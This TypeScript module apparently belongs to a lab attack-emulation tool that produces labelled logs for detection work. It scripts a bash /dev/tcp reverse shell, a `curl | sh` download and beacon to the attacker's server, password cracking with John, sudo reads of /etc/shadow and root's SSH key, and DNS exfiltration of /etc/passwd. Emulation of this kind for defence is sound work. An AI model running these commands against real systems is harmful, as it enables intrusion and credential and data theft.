/**
 * Post-exploitation steps: a bash reverse shell to a netcat listener on the attacker (commands
 * fed through it), tool download from the attacker's lab web server, John the Ripper on the
 * server against a hash file, ssh login with the cracked password plus `sudo -l`, `sudo cat
 * /etc/shadow` and a failed `su`, and DNS exfiltration as long base32 labels via dig.
 *
 * @module
 */
import { act } from "./actor.ts";
import { SHELL_PORT, WEB_PORT } from "./attacker_services.ts";
import type { AttackCtx, Step } from "./attacks.ts";
import { SHELL, UPLOADS_CWD, viaShell } from "./attacks_web.ts";
import { must } from "./proc.ts";
import { sshCmd } from "./ssh_client.ts";

async function reverseShell(c: AttackCtx): Promise<void> {
  const a = c.target(c.plan.atkIp);
  const cmds = [
    "id",
    "hostname",
    "cat /etc/os-release",
    "ls -la /home",
    "netstat -tln || ss -tln",
    "cat /etc/passwd | cut -d: -f1",
    "find / -perm -4000 -type f 2>/dev/null | head",
    "ls -la /var/www/html",
    "cat /etc/crontab",
    "uname -a",
    "exit",
  ];
  const feed = `sleep 3; printf '%s\\n' ${cmds.map((x) => `'${x}'`).join(" ")}; sleep 4`;
  const listener = act(
    c.atk,
    ["sh", "-c", `(${feed}) | nc -l -s ${a} -p ${SHELL_PORT} -q 2`],
    Math.min(c.left(), 30),
  );
  await new Promise((r) => setTimeout(r, 800));
  await viaShell(c, `bash -c 'bash -i >& /dev/tcp/${a}/${SHELL_PORT} 0>&1'`, 25);
  await listener;
}

async function toolDownload(c: AttackCtx): Promise<void> {
  const url = `http://${c.target(c.plan.atkIp)}:${WEB_PORT}/enum.sh`;
  await viaShell(c, `wget -q -O /tmp/.enum.sh ${url}`);
  await viaShell(c, "chmod +x /tmp/.enum.sh && /tmp/.enum.sh");
  await viaShell(c, `curl -s ${url} | sh`);
  // A beacon: the implant checks in with the attacker a few times (bounded loop).
  const beacon = `http://${c.plan.atkIp}:${WEB_PORT}/b?h=$(hostname)&n=`;
  await viaShell(
    c,
    `for i in 1 2 3 4 5 6; do curl -s -m 2 "${beacon}$i" >/dev/null; sleep 1; done`,
    20,
  );
}

async function crack(c: AttackCtx): Promise<void> {
  const v = c.plan.victim;
  const hash = (await must(["openssl", "passwd", "-6", "-salt", "q7", v.password])).trim();
  const words = ["123456", "password", "letmein", v.password, "qwerty"].join("\\n");
  await viaShell(c, `printf '${v.name}:${hash}\\n' > /tmp/.h && printf '${words}\\n' > /tmp/.w`);
  await viaShell(c, "HOME=/tmp john --format=sha512crypt --wordlist=/tmp/.w /tmp/.h", 40);
  await viaShell(c, "HOME=/tmp john --show /tmp/.h");
}

async function privesc(c: AttackCtx): Promise<void> {
  const v = c.plan.victim, srv = c.target(c.plan.srvIp), pw = v.password;
  const script = [
    "id",
    `echo '${pw}' | sudo -S -p '' -l`,
    `echo '${pw}' | sudo -S -p '' cat /etc/shadow`,
    `echo '${pw}' | sudo -S -p '' find /root -maxdepth 1`,
    `echo '${pw}' | sudo -S -p '' find . -maxdepth 0 -exec /bin/sh -c id \\;`,
    `echo '${pw}' | sudo -S -p '' cat /root/.ssh/id_rsa`,
    `echo '${pw}' | sudo -S -p '' -u ${c.plan.accounts[0].name} id`,
    "echo wrong | su -c id root",
    "echo toor | su -c id root",
    "exit",
  ].join("; ");
  await act(c.atk, sshCmd(c.plan.atkIp, v.name, pw, srv, script), 30);
  const su = `echo guess1 | su - ${c.plan.accounts[0].name} -c id`;
  await act(c.atk, sshCmd(c.plan.atkIp, v.name, pw, srv, su), 20);
}

async function dnsExfil(c: AttackCtx): Promise<void> {
  const v = c.plan.victim, srv = c.target(c.plan.srvIp), d = c.plan.exfilDomain;
  // 70-100 chunks of 40 characters, about 3 lines each (the dig under snoopy, dnsmasq's query
  // and reply), so a run holds >= 200 distinct exfiltration lines: /etc/passwd and the notes
  // alone made 35 chunks of 52 (157 lines in s1).
  const n = 70 + c.plan.rng.int(0, 30);
  const files = "/etc/passwd /etc/group ~/notes.txt";
  const loop =
    `i=0; for x in $(cat ${files} 2>/dev/null | base32 -w0 | tr -d = | tr A-Z a-z | fold -w 40 | head -n ${n}); ` +
    `do i=$((i+1)); dig +short +tries=1 +time=1 @127.0.0.1 $x.$i.${d} > /dev/null; done`;
  await act(c.atk, sshCmd(c.plan.atkIp, v.name, v.password, srv, loop), Math.min(c.left(), 90));
}

/** The post-exploitation steps. */
export const POST_STEPS: Step[] = [
  {
    name: "reverse_shell",
    label: "command_and_control",
    families: ["snoopy"],
    targets: SHELL,
    user: () => UPLOADS_CWD,
    maxS: 40,
    run: reverseShell,
  },
  {
    name: "tool_download",
    label: "command_and_control",
    families: ["snoopy"],
    targets: SHELL,
    user: () => UPLOADS_CWD,
    maxS: 40,
    run: toolDownload,
  },
  {
    name: "crack",
    label: "credential_access",
    families: ["snoopy"],
    targets: SHELL,
    user: () => UPLOADS_CWD,
    maxS: 60,
    run: crack,
  },
  {
    name: "privesc",
    label: "privilege_escalation",
    families: ["sudo", "su", "snoopy", "auth", "sshd"],
    targets: ["sshd", "sudo", "su", "snoopy"],
    user: (p) => p.victim.name,
    maxS: 60,
    run: privesc,
  },
  {
    name: "dns_exfil",
    label: "exfiltration",
    families: ["dnsmasq", "snoopy"],
    targets: ["sshd", "snoopy", "dnsmasq"],
    user: (p) => p.victim.name,
    maxS: 90,
    run: dnsExfil,
  },
];
